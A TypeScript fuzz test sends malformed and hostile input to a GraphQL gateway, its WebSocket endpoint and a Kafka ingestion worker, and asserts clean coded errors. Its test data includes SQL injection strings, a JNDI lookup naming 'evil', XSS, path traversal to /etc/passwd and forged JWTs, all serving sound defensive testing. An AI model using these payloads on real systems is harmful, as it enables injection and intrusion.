/**
 * A seeded corpus of malformed input sent through every door: HTTP (raw request lines, URLs and
 * headers; bodies, queries, variables, credentials), graphql-ws (frames and subscribe payloads)
 * and straight onto an ingestion topic read by a real consumer worker. Pass: every case gets a
 * clear error (an error with extensions.code, a rejected reading with its code, a graphql-ws close
 * code, or a DLQ entry with its error-code header), no 5xx for a client's mistake, the gateway and
 * worker keep running, and the table holds only valid readings.
 *
 * BAD_INPUT_SEED=<n> replays another corpus; the seed is printed on failure.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import type { Kafka } from 'kafkajs';
import { signToken } from '../../src/auth/sign.js';
import { checkReading, USER_ID_PATTERN } from '../../src/domain/reading.js';
import { createLogger } from '../../src/logger.js';
import { createConsumerWorker, type ConsumerWorker } from '../../src/consumer/worker.js';
import { startLiveGateway, type LiveGateway } from '../helpers/live.js';
import { testKafka } from '../helpers/kafka.js';
import { rawRequestCorpus, sendRaw } from '../helpers/raw-http.js';
import { uniqueId, waitFor } from '../helpers/wait.js';
import {
  createTopics,
  produce,
  storedRows,
  testPool,
  workerConfig,
  deleteRows,
  type OutMessage,
  type Topics,
} from './consumer-fixtures.js';

const SEED = Number(process.env['BAD_INPUT_SEED'] ?? 20261124);
const SECRET = 'bad-input-secret-0123456789-abcdefghij';

/** mulberry32: small, fast, good enough to make a corpus reproducible from one number. */
function rng(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return {
    next,
    int: (n: number) => Math.floor(next() * n),
    pick: <T>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)]!,
  };
}
type Rng = ReturnType<typeof rng>;

// ---- hostile values -------------------------------------------------------------------------

const INJECTION_IDS = [
  "' OR '1'='1",
  "x'); DROP TABLE readings; --",
  'u1; DELETE FROM readings',
  '"; SELECT pg_sleep(10); --',
  '${jndi:ldap://evil/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  'a\u0000b',
  '%00',
  '\\x27',
  '$where: 1',
  '*',
  '%',
  '_',
  'user--1/*',
];
const UNICODE = ['😀', 'ユーザー', 'مستخدم', '\u202eevil', 'Z̴̡̛a̶l̸g̷o', '\ud800', '\uffff', 'é'.normalize('NFD'), '\t\n\r'];
const NUMBERS: unknown[] = [
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '-1e309',
  1e308,
  -1e308,
  5e-324,
  -5e-324,
  2 ** 53 + 1,
  -(2 ** 63),
  2 ** 31,
  -(2 ** 31) - 1,
  '',
  '12abc',
  '0x10',
  true,
  false,
  null,
  [],
  {},
  [1],
  { value: 1 },
  '٣',
  ' 5 ',
];
const TIMES: unknown[] = [
  '',
  'yesterday',
  '2026-13-45T00:00:00Z',
  '2026-02-30T00:00:00Z',
  '2026-01-01',
  '2026-01-01T25:00:00Z',
  '+275760-09-13T00:00:00Z',
  '9999-12-31T23:59:59Z',
  '0000-01-01T00:00:00Z',
  1e20,
  -1,
  0,
  1700000000000,
  null,
  true,
  [],
  {},
  '2026-01-01T00:00:00',
  'T',
  '１２３',
];

function longString(r: Rng): string {
  return r.pick(['a', 'é', '😀', "'", '\\', '"']).repeat(r.pick([65, 257, 1025, 10_000, 100_000]));
}

function hostileId(r: Rng): unknown {
  switch (r.int(6)) {
    case 0:
      return r.pick(INJECTION_IDS);
    case 1:
      return r.pick(UNICODE);
    case 2:
      return longString(r);
    case 3:
      return r.pick(NUMBERS);
    case 4:
      return '';
    default:
      return `${r.pick(INJECTION_IDS)}${r.pick(UNICODE)}`;
  }
}

// ---- HTTP cases -----------------------------------------------------------------------------

interface HttpCase {
  kind: string;
  body: string;
  contentType?: string;
  authorization?: string;
}

const DAY = 'from: "2026-01-01T00:00:00Z", to: "2026-01-02T00:00:00Z"';
const VALID_QUERIES = [
  `query Q($u: ID!) { series(userId: $u, metric: STEPS, ${DAY}, bucket: HOUR) { time sum } }`,
  `query Q($u: ID!) { readings(userId: $u, metric: HEART_RATE, ${DAY}, first: 10) { nodes { value } endCursor } }`,
  'query Q($u: ID!) { user(id: $u) { id latest(metric: SPO2) { value } } }',
  'mutation M($r: [ReadingInput!]!) { ingestReadings(readings: $r) { accepted rejected { index code message } } }',
];

function badReading(r: Rng, userPrefix: string): Record<string, unknown> {
  const good: Record<string, unknown> = {
    userId: `${userPrefix}-${r.int(5)}`,
    metric: 'HEART_RATE',
    time: new Date(Date.now() - 60_000).toISOString(),
    value: 70,
  };
  const field = r.pick(['userId', 'metric', 'time', 'value', 'deviceId', 'eventId', 'extra', 'missing']);
  switch (field) {
    case 'userId':
      good['userId'] = hostileId(r);
      break;
    case 'metric':
      good['metric'] = r.pick([
        'heart_rate',
        'HEARTRATE',
        '',
        'STEPS; DROP',
        42,
        null,
        'BLOOD_PRESSURE',
        longString(r),
      ]);
      break;
    case 'time':
      good['time'] = r.pick([...TIMES, new Date(Date.now() + 3_600_000).toISOString()]);
      break;
    case 'value':
      good['value'] = r.pick([...NUMBERS, 251, 19, -0.0001, 1e6]);
      break;
    case 'deviceId':
      good['deviceId'] = r.pick([longString(r), 42, {}, ...INJECTION_IDS]);
      break;
    case 'eventId':
      good['eventId'] = r.pick(['', longString(r), 7, []]);
      break;
    case 'extra':
      good[r.pick(['unknownField', '__proto__', 'constructor', 'user_id'])] = r.pick(['x', 1, { nested: true }]);
      break;
    default:
      delete good[r.pick(['userId', 'metric', 'time', 'value'])];
  }
  return good;
}

function httpCase(r: Rng, userPrefix: string, badToken: () => string): HttpCase {
  const json = (o: unknown) => JSON.stringify(o);
  switch (r.int(12)) {
    case 0: {
      // Not JSON, or JSON cut short.
      const valid = json({ query: r.pick(VALID_QUERIES), variables: { u: 'x' } });
      const body = r.pick([
        valid.slice(0, r.int(valid.length)),
        '{',
        '[1,2',
        "{'query': 1}",
        '\u0000\u0001',
        'null',
        'undefined',
        '{"query": "{ health { name } }",}',
        '\ufeff' + valid.slice(1),
        longString(r),
      ]);
      return { kind: 'invalid JSON', body };
    }
    case 1:
      return {
        kind: 'wrong body type',
        body: r.pick([
          json(42),
          json('str'),
          json([]),
          json([{ query: '{ health { name } }' }]),
          json(null),
          json(true),
        ]),
      };
    case 2:
      return {
        kind: 'wrong query type',
        body: json({
          query: r.pick([42, null, ['{ health { name } }'], { q: 1 }, true, '']),
          variables: r.pick([undefined, 'str', 7, []]),
        }),
      };
    case 3: {
      const q = r.pick(VALID_QUERIES);
      return {
        kind: 'syntax error',
        body: json({ query: q.slice(0, 1 + r.int(q.length - 2)) + r.pick(['', '}}}', '((', '"', '\u0000', '#']) }),
      };
    }
    case 4:
      return {
        kind: 'unknown fields and arguments',
        body: json({
          query: r.pick([
            '{ nope }',
            '{ health { name secret } }',
            `{ series(userId: "u", metric: STEPS, ${DAY}, bucket: HOUR, sql: "1=1") { sum } }`,
            '{ __type(name: "Query") { fields { name } } unknownRoot }',
            'mutation { dropTable }',
            'subscription { alerts { alertId } }',
            '{ user(id: "u") { password } }',
          ]),
        }),
      };
    case 5: {
      const n = r.pick([20, 200, 2000, 5000, 20_000]);
      const query = r.pick([
        () => '{' + 'user(id: "u") {'.repeat(n) + 'id' + '}'.repeat(n) + '}',
        () => '{' + 'a{'.repeat(n) + 'b' + '}'.repeat(n) + '}',
        () => `{ users(ids: [${'['.repeat(n)}"u"${']'.repeat(n)}]) { id } }`,
        () => `query Q($v: [ReadingInput!]!) { ingestReadings(readings: $v) { accepted } }`,
      ])();
      const variables = query.includes('$v')
        ? { v: JSON.parse('['.repeat(Math.min(n, 2000)) + ']'.repeat(Math.min(n, 2000))) }
        : undefined;
      return { kind: 'deeply nested', body: json({ query, variables }) };
    }
    case 6:
      return {
        kind: 'hostile user id',
        body: json({ query: r.pick(VALID_QUERIES.slice(0, 3)), variables: { u: hostileId(r) } }),
      };
    case 7:
      return {
        kind: 'bad series arguments',
        body: json({
          query:
            'query Q($f: DateTime!, $t: DateTime!, $b: Bucket!, $m: Metric!) { series(userId: "u1", metric: $m, from: $f, to: $t, bucket: $b) { sum } }',
          variables: {
            f: r.pick(TIMES),
            t: r.pick([...TIMES, '2026-01-02T00:00:00Z']),
            b: r.pick(['HOUR', 'YEAR', 'hour', 1, null]),
            m: r.pick(['STEPS', 'steps', 'PULSE', 3]),
          },
        }),
      };
    case 8:
      return {
        kind: 'bad paging',
        body: json({
          query: `query Q($n: Int, $a: String) { readings(userId: "u1", metric: STEPS, ${DAY}, first: $n, after: $a) { nodes { value } } }`,
          variables: {
            n: r.pick([-1, 0, 1001, 2 ** 31, 1.5, '10', 'NaN', null, 10]),
            a: r.pick(['', 'garbage', longString(r), "' OR 1=1", 'eyJ4IjoxfQ', 'AAAA====', null]),
          },
        }),
      };
    case 9:
      return {
        kind: 'bad readings',
        body: json({
          query: VALID_QUERIES[3],
          variables: { r: Array.from({ length: 1 + r.int(4) }, () => badReading(r, userPrefix)) },
        }),
      };
    case 10:
      return { kind: 'bad credentials', body: json({ query: '{ health { name } }' }), authorization: badToken() };
    default:
      return {
        kind: 'wrong content type',
        body: r.pick(['query={ health { name } }', '<xml/>', json({ query: '{ health { name } }' })]),
        contentType: r.pick([
          'text/plain',
          'application/x-www-form-urlencoded',
          'multipart/form-data; boundary=x',
          'application/xml',
        ]),
      };
  }
}

// ---- WebSocket cases ------------------------------------------------------------------------

interface WsCase {
  kind: string;
  /** Frames sent after the socket opens (after a connection_init, the rest wait for the ack). */
  frames: (string | Buffer)[];
  /** A well-formed subscription that happens to be valid: it must run quietly, not fail. */
  valid?: boolean;
}

function wsCase(r: Rng): WsCase {
  const init = JSON.stringify({ type: 'connection_init', payload: {} });
  const sub = (payload: unknown) => JSON.stringify({ id: `s${r.int(1e6)}`, type: 'subscribe', payload });
  switch (r.int(8)) {
    case 0:
      return { kind: 'invalid JSON frame', frames: [r.pick(['{', 'not json', '\u0000', '[]', '42', longString(r)])] };
    case 1:
      return {
        kind: 'unknown message type',
        frames: [JSON.stringify({ type: r.pick(['hello', 'start', 'connection_terminate', '', 42]) })],
      };
    case 2:
      return { kind: 'subscribe before init', frames: [sub({ query: 'subscription { alerts { alertId } }' })] };
    case 3:
      return {
        kind: 'bad init payload',
        frames: [
          JSON.stringify({
            type: 'connection_init',
            payload: r.pick(['str', 42, [], { authorization: 'Bearer x.y.z' }]),
          }),
        ],
      };
    case 4:
      return { kind: 'binary frame', frames: [Buffer.from([0xff, 0xfe, 0x00, r.int(256)])] };
    case 5:
      return {
        kind: 'bad subscribe payload',
        frames: [
          init,
          sub(
            r.pick([
              null,
              {},
              { query: 42 },
              { query: '' },
              { query: 'subscription {' },
              { query: 'subscription { nope }' },
              { query: '{' + 'a{'.repeat(5000) + '}'.repeat(5000) + '}' },
            ]),
          ),
        ],
      };
    case 6:
      return {
        kind: 'bad subscribe variables',
        frames: [
          init,
          sub({
            query: 'subscription W($u: ID!, $m: [Metric!]) { metricWindows(userId: $u, metrics: $m) { sum } }',
            variables: { u: hostileId(r), m: r.pick([['PULSE'], 'STEPS', [null], 7, undefined]) },
          }),
        ],
      };
    default: {
      const u = r.pick([...INJECTION_IDS, ...UNICODE]);
      return {
        kind: 'bad alert subscription',
        frames: [init, sub({ query: 'subscription A($u: ID) { alerts(userId: $u) { alertId } }', variables: { u } })],
        valid: USER_ID_PATTERN.test(u),
      };
    }
  }
}

// ---- Kafka cases ----------------------------------------------------------------------------

function kafkaCase(r: Rng, userPrefix: string): { message: OutMessage; valid: boolean } {
  const headers = { 'schema-version': '1' };
  const base = () => ({
    userId: `${userPrefix}-${r.int(20)}`,
    metric: 'steps',
    time: new Date(Date.UTC(2026, 0, 1) + r.int(86_400) * 1000).toISOString(),
    value: r.int(100),
  });
  switch (r.int(8)) {
    case 0:
      return {
        message: {
          key: 'k',
          value: r.pick(['{', 'not json', '', '\u0000\u0001', 'null', '[]', '42', longString(r)]),
          headers,
        },
        valid: false,
      };
    case 1:
      return {
        message: { key: null, value: Buffer.from([0xc3, 0x28, 0xa0, 0xa1, r.int(256)]), headers },
        valid: false,
      };
    case 2: {
      const b = { ...base(), value: r.pick(['NaN', 'Infinity', '1e309', 1e308, -1, 1001, null, '5', true]) };
      return { message: { key: String(b.userId), value: JSON.stringify(b), headers }, valid: false };
    }
    case 3: {
      // Ids that happen to be well-formed ('_', '*'-free LIKE patterns) are kept inside this test's namespace.
      const id: unknown = r.pick([...INJECTION_IDS, ...UNICODE, 'x'.repeat(65), '', 7]);
      const b = {
        ...base(),
        userId: typeof id === 'string' && USER_ID_PATTERN.test(`${userPrefix}${id}`) ? `${userPrefix}${id}` : id,
      };
      return { message: { key: 'k', value: JSON.stringify(b), headers }, valid: false };
    }
    case 4: {
      const b = {
        ...base(),
        metric: r.pick(['STEPS', 'Steps', 'pulse', '', null, 'steps; DROP TABLE readings']),
        time: base().time,
      };
      return { message: { key: 'k', value: JSON.stringify(b), headers }, valid: false };
    }
    case 5: {
      const b = { ...base(), time: r.pick([...TIMES, new Date(Date.now() + 3_600_000).toISOString()]) };
      return { message: { key: 'k', value: JSON.stringify(b), headers }, valid: false };
    }
    case 6: {
      const b = base();
      return {
        message: {
          key: b.userId,
          value: JSON.stringify(b),
          headers: { 'schema-version': r.pick(['2', 'x', '0', '1.1']) },
        },
        valid: false,
      };
    }
    default: {
      // A valid reading with odd but allowed extras: must land in the table exactly once.
      const b = {
        ...base(),
        deviceId: r.pick(['😀-band', "o'brien's watch", 'dev-1']),
        unknownField: r.pick([1, 'x', null]),
      };
      return { message: { key: b.userId, value: JSON.stringify(b), headers }, valid: true };
    }
  }
}

// ---- the test -------------------------------------------------------------------------------

interface Outcome {
  kind: string;
  ok: boolean;
  detail: string;
}

const HTTP_CASES = 900;
const WS_CASES = 200;
const KAFKA_CASES = 400;

describe(`bad input corpus (seed ${SEED})`, () => {
  let gw: LiveGateway;
  let kafka: Kafka;
  let topics: Topics;
  let worker: ConsumerWorker;
  const pool = testPool();
  const userPrefix = uniqueId('bad');

  beforeAll(async () => {
    // Development mode with key material: no token is the development admin (not rate limited),
    // and every token that is sent is verified.
    gw = await startLiveGateway({
      AUTH_JWT_SECRET: SECRET,
      INGEST_MAX_READINGS: '100',
      HTTP_MAX_BODY_BYTES: String(256 * 1024),
    });
    kafka = testKafka();
    topics = await createTopics(kafka, 3);
  });
  afterAll(async () => {
    await worker?.stop();
    await topics?.remove();
    await gw?.stop();
    await pool.end();
  });

  it(`HTTP: ${HTTP_CASES} cases, each a 4xx/200 with coded errors, never a 5xx`, async () => {
    const r = rng(SEED);
    const tokens = [
      `Bearer ${await signToken({ sub: 'x', roles: ['admin'] }, { secret: 'wrong-secret-0123456789-abcdefghijklmn' })}`,
      `Bearer ${await signToken({ sub: 'x', roles: ['admin'], expiresInSeconds: -10 }, { secret: SECRET })}`,
      `Bearer ${await signToken({ sub: 'x', roles: ['root', 'superuser'] }, { secret: SECRET })}`,
    ];
    const badToken = () =>
      r.pick([
        ...tokens,
        'Bearer',
        'Bearer ',
        'bearer a.b.c',
        'Basic YTpi',
        'Bearer ' + 'A'.repeat(r.pick([10, 5000])),
        'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.',
        "Bearer ' OR 1=1 --",
        'null',
      ]);
    const cases = Array.from({ length: HTTP_CASES }, () => httpCase(r, userPrefix, badToken));
    const outcomes: Outcome[] = [];
    let next = 0;
    const workerLoop = async () => {
      while (next < cases.length) {
        const c = cases[next++]!;
        const res = await fetch(gw.url, {
          method: 'POST',
          headers: {
            'content-type': c.contentType ?? 'application/json',
            ...(c.authorization ? { authorization: c.authorization } : {}),
            'apollo-require-preflight': 'x',
          },
          body: c.body,
        });
        const text = await res.text();
        let parsed:
          { data?: Record<string, unknown> | null; errors?: { extensions?: { code?: unknown } }[] } | undefined;
        try {
          parsed = JSON.parse(text) as typeof parsed;
        } catch {
          parsed = undefined;
        }
        const errors = parsed?.errors ?? [];
        const coded =
          errors.length > 0 &&
          errors.every((e) => typeof e.extensions?.code === 'string' && e.extensions.code !== 'INTERNAL_SERVER_ERROR');
        // A batch of readings is answered per reading: all rejected with a code, or the valid ones accepted.
        const ingest = parsed?.data?.['ingestReadings'] as
          { accepted: number; rejected: { code: string }[] } | undefined;
        const rejectedWithCodes =
          ingest !== undefined && ingest.rejected.every((x) => typeof x.code === 'string' && x.code.length > 0);
        // Some hostile-looking inputs are valid (e.g. an unknown but well-formed user id): data, no error.
        const validAnswer = errors.length === 0 && parsed?.data != null;
        const ok = res.status < 500 && parsed !== undefined && (coded || rejectedWithCodes || validAnswer);
        outcomes.push({ kind: c.kind, ok, detail: `${res.status} ${text.slice(0, 200)} <- ${c.body.slice(0, 120)}` });
      }
    };
    await Promise.all(Array.from({ length: 6 }, workerLoop));
    report('HTTP', outcomes);
    expect(outcomes.filter((o) => !o.ok).map((o) => `${o.kind}: ${o.detail}`)).toEqual([]);
    // Still serving.
    const alive = await fetch(gw.url, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{"query":"{ __typename }"}',
    });
    expect(alive.status).toBe(200);
  });

  it('raw request lines, URLs and headers: each answered below 500 or refused by the parser, never a crash', async () => {
    const port = Number(new URL(gw.url).port);
    const outcomes: Outcome[] = [];
    for (const c of rawRequestCorpus()) {
      const answer = await sendRaw(port, c.raw);
      const alive = await fetch(gw.url.replace('/graphql', '/healthz')).then((r) => r.status);
      outcomes.push({
        kind: c.name,
        ok: (answer === 'closed' || answer < 500) && alive === 200,
        detail: `${answer}, then /healthz ${alive}`,
      });
    }
    report('raw HTTP', outcomes);
    expect(outcomes.filter((o) => !o.ok).map((o) => `${o.kind}: ${o.detail}`)).toEqual([]);
  });

  it(`graphql-ws: ${WS_CASES} cases, each an error message or a 4xxx close, never 4500 or a hang`, async () => {
    const r = rng(SEED + 1);
    const cases = Array.from({ length: WS_CASES }, () => wsCase(r));
    const outcomes: Outcome[] = [];
    const runCase = (c: WsCase) =>
      new Promise<Outcome>((resolve) => {
        const ws = new WebSocket(gw.wsUrl, 'graphql-transport-ws');
        const seen: string[] = [];
        const done = (ok: boolean, detail: string) => {
          clearTimeout(timer);
          ws.removeAllListeners();
          ws.on('error', () => undefined);
          ws.terminate();
          resolve({ kind: c.kind, ok, detail: `${detail} [${seen.join(' | ').slice(0, 200)}]` });
        };
        const timer = c.valid
          ? setTimeout(() => done(true, 'valid subscription running'), 1500)
          : setTimeout(() => done(false, 'no answer within 5 s'), 5000);
        // After a connection_init, the rest waits for the ack (earlier frames would only earn a 4401).
        const [first, ...rest] = c.frames;
        const waitsForAck = typeof first === 'string' && first.includes('"connection_init"') && rest.length > 0;
        ws.on('open', () => {
          for (const f of waitsForAck ? [first] : c.frames) ws.send(f!);
        });
        ws.on('message', (data) => {
          const text = data.toString();
          seen.push(text.slice(0, 300));
          let m: { type?: string; payload?: unknown };
          try {
            m = JSON.parse(text) as typeof m;
          } catch {
            return done(false, 'server sent non-JSON');
          }
          if (m.type === 'error') {
            const errs = m.payload as { extensions?: { code?: unknown } }[];
            const coded =
              Array.isArray(errs) &&
              errs.length > 0 &&
              errs.every(
                (e) => typeof e.extensions?.code === 'string' && e.extensions.code !== 'INTERNAL_SERVER_ERROR',
              );
            return done(coded, 'error message');
          }
          if (m.type === 'next') {
            const errs = (m.payload as { errors?: { extensions?: { code?: unknown } }[] }).errors ?? [];
            const coded =
              errs.length > 0 &&
              errs.every(
                (e) => typeof e.extensions?.code === 'string' && e.extensions.code !== 'INTERNAL_SERVER_ERROR',
              );
            return done(coded, 'next message');
          }
          if (m.type === 'connection_ack' && waitsForAck) {
            for (const f of rest) ws.send(f);
            return;
          }
          if (m.type === 'connection_ack' && c.frames.length === 1 && c.kind === 'bad init payload') {
            // An init payload the server accepts (extra fields) is not an error: the case passes when acknowledged.
            return done(true, 'acknowledged');
          }
        });
        ws.on('close', (code) =>
          done(
            (code >= 4000 && code < 4500) || code === 1009 || code === 1002 || code === 1003 || code === 1007,
            `closed ${code}`,
          ),
        );
        ws.on('error', (err) => done(false, `socket error ${err.message}`));
      });
    for (let i = 0; i < cases.length; i += 10)
      outcomes.push(...(await Promise.all(cases.slice(i, i + 10).map(runCase))));
    report('graphql-ws', outcomes);
    expect(outcomes.filter((o) => !o.ok).map((o) => `${o.kind}: ${o.detail}`)).toEqual([]);
  });

  it(`Kafka: ${KAFKA_CASES} messages, every malformed one in the DLQ with a code, only valid readings stored`, async () => {
    const r = rng(SEED + 2);
    const cases = Array.from({ length: KAFKA_CASES }, () => kafkaCase(r, userPrefix));
    await produce(
      kafka,
      topics.topic,
      cases.map((c) => c.message),
    );
    const config = workerConfig(topics, uniqueId('bad-input-group'));
    worker = createConsumerWorker({ config, logger: createLogger(config, 'bad-input-worker'), print: () => undefined });
    await worker.start();
    await waitFor(() => worker.stats().messages >= KAFKA_CASES, {
      timeoutMs: 45_000,
      what: `${KAFKA_CASES} messages handled`,
    });
    expect(worker.stats().phase).toBe('started');

    // The oracle: the reading rules (src/domain/reading.ts) and the schema-version header.
    const expectValid = (m: OutMessage): boolean => {
      if (m.headers?.['schema-version'] !== '1' || typeof m.value !== 'string') return false;
      try {
        return checkReading(JSON.parse(m.value), Date.now()).ok;
      } catch {
        return false;
      }
    };
    const invalid = cases.filter((c) => !expectValid(c.message));
    const valid = cases.filter((c) => expectValid(c.message));
    // The generator's labels and the oracle agree on what was meant to be valid.
    expect(cases.filter((c) => c.valid && !expectValid(c.message))).toEqual([]);
    await waitFor(() => worker.stats().dlq >= invalid.length, {
      timeoutMs: 20_000,
      what: `${invalid.length} DLQ publishes`,
    });

    // Read the DLQ back: every malformed message, as received, with a code.
    const dlq: { value: string; code: string }[] = [];
    const expectedDlq = worker.stats().dlq;
    const consumer = kafka.consumer({ groupId: uniqueId('bad-input-dlq-reader') });
    await consumer.connect();
    await consumer.subscribe({ topic: topics.dlqTopic, fromBeginning: true });
    await consumer.run({
      eachMessage: async ({ message }) => {
        dlq.push({
          value: message.value?.toString('latin1') ?? '',
          code: message.headers?.['error-code']?.toString() ?? '',
        });
      },
    });
    await waitFor(() => dlq.length >= expectedDlq, { timeoutMs: 30_000, what: `${expectedDlq} DLQ entries` });
    await consumer.disconnect();
    expect(dlq.every((d) => /^[A-Z_]+$/.test(d.code))).toBe(true);
    const remaining = new Map<string, number>();
    for (const d of dlq) remaining.set(d.value, (remaining.get(d.value) ?? 0) + 1);
    const asLatin1 = (v: OutMessage['value']) =>
      v === null ? '' : Buffer.isBuffer(v) ? v.toString('latin1') : Buffer.from(v).toString('latin1');
    const missing = invalid.filter((c) => {
      const key = asLatin1(c.message.value);
      const n = remaining.get(key) ?? 0;
      if (n === 0) return true;
      remaining.set(key, n - 1);
      return false;
    });
    expect(missing.map((c) => String(c.message.value).slice(0, 100))).toEqual([]);
    // A valid-looking reading may still be refused by the database (DATABASE_REJECTED); nothing else.
    const refusedValid = dlq.length - invalid.length;
    expect(dlq.filter((d) => (remaining.get(d.value) ?? 0) > 0).every((d) => d.code === 'DATABASE_REJECTED')).toBe(
      true,
    );

    // The table: only valid readings, each passing the reading rules, each identity once.
    const users = [
      ...new Set([
        ...Array.from({ length: 20 }, (_, i) => `${userPrefix}-${i}`),
        ...valid.map((c) => (JSON.parse(String(c.message.value)) as { userId: string }).userId),
      ]),
    ];
    const rows = await storedRows(pool, users);
    const identities = new Set(
      valid.map((c) => {
        const v = JSON.parse(String(c.message.value)) as { userId: string; metric: string; time: string };
        return `${v.userId}|${v.metric}|${new Date(v.time).toISOString()}`;
      }),
    );
    const stored = rows.map((x) => `${x.userId}|${x.metric}|${x.time}`);
    expect(new Set(stored).size).toBe(stored.length);
    expect(stored.every((id) => identities.has(id))).toBe(true);
    const notStored = [...identities].filter((id) => !stored.includes(id));
    expect(notStored.length, `valid but neither stored nor refused: ${notStored.join(', ')}`).toBeLessThanOrEqual(
      refusedValid,
    );
    for (const row of rows)
      expect(
        checkReading({ ...row, deviceId: row.deviceId ?? undefined, eventId: row.eventId ?? undefined }, Date.now()).ok,
      ).toBe(true);
    console.info(
      `[bad-input] Kafka: ${KAFKA_CASES} messages, ${invalid.length} malformed all in the DLQ (codes: ${summarise(dlq.map((d) => d.code))}), ` +
        `${refusedValid} valid-looking refused by the database, ${rows.length} rows stored from ${identities.size} distinct valid readings`,
    );
    await deleteRows(pool, users);
  });
});

function summarise(xs: string[]): string {
  const m = new Map<string, number>();
  for (const x of xs) m.set(x, (m.get(x) ?? 0) + 1);
  return [...m]
    .sort((a, b) => b[1] - a[1])
    .map(([k, v]) => `${k} ${v}`)
    .join(', ');
}

function report(door: string, outcomes: Outcome[]): void {
  const byKind = summarise(outcomes.map((o) => o.kind));
  const failed = outcomes.filter((o) => !o.ok).length;
  console.info(`[bad-input] ${door}: ${outcomes.length} cases (${byKind}); ${failed} without a clear error`);
}
